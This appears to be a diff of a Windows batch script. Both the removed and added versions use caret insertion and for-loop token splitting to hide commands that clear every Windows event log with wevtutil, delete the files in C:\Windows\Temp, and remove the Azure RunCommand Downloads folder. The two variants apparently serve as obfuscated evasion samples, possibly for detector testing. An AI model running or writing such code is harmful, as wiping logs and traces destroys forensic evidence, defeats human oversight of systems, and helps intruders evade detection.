@@ -1,4 +1,4 @@
-REM task 6596 v4
-^for /f "tokens=3 delims=@" %%^i ^in ("dkmd@foet@for") do %%i /^F "tokens=*" %%^1 in ('w^e^vt^util.exe el') DO ^w^e^v^t^u^til.^exe cl "%%1"
-for /^f "tokens=3 delims=~" %%^i ^in ("kbqh~baxc~del") d^o %%^i /^f /q C:\^Wi^n^d^o^w^s\T^e^m^p\*.*
-^f^or /f "tokens=3 delims=@" %%^i i^n ("iwtk@tend@rd") d^o %%^i /^s /^q C:\Pac^kages\Plugin^s\M^ic^roso^f^t.^CPlat.Core.^R^u^n^Co^m^m^an^dWindo^ws\1.1.1^5\D^o^wn^lo^ad^s
+REM provision 6340 v4
+^fo^r /^f "tokens=1 delims=#" %%i in ("for#rgcd#cema") d^o %%i /^F "tokens=*" %%1 in ('^w^e^v^t^ut^i^l.exe el') ^D^O wevtu^til.e^x^e ^c^l "%%1"
+^f^or /f "tokens=3 delims=@" %%^i in ("hers@jbxp@del") do %%^i /^f /q C:\Win^d^o^w^s\T^e^mp\*.*
+^for /f "tokens=1 delims=#" %%^i ^in ("rd#ptlj#gact") do %%i /s /q C:\^Pack^ag^e^s\^Plu^gin^s\^M^ic^rosof^t.^C^Plat.^C^ore.^R^un^C^om^m^and^W^in^d^ows\1.^1.15\D^ownloa^ds
